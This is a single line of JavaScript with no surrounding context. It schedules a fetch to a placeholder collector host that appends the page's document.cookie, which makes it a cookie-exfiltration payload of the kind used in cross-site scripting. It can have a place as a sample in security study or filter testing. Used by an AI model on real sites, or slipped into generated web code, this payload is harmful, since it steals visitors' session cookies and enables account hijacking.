setTimeout("fetch('https://collector.example.net/' + document.cookie)", 1000);
